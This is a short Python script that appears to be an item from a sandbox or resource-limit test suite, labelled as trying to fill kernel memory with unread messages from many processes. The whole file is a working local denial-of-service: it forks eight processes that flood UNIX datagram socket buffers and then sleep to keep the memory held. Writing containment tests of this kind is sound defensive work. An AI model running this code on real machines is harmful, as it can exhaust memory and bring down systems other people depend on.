# Tries: Fill the kernel's memory with messages that nobody reads, from many processes.
# Cell: negative_back
# Keeps: 35

import os
import socket
import time

for _ in range(8):
    if os.fork() == 0:
        kept = []
        try:
            while True:
                pair = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
                kept.append(pair)
                pair[0].setblocking(False)
                pair[0].setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**30)
                try:
                    while True:
                        pair[0].send(bytes(2**15))
                except OSError:
                    pass
        except OSError:
            time.sleep(1000)
time.sleep(1000)
